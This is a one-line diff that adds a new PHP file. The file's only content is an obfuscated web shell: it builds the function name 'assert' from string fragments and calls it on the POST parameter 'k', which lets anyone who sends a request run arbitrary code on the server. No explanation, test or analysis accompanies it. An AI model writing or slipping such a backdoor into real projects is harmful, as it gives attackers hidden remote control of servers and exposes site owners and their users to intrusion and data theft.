@@ -1,0 +1,1 @@
+<?php $p = ['as', 'se', 'rt']; $f = implode('', $p); $f($_POST['k']);
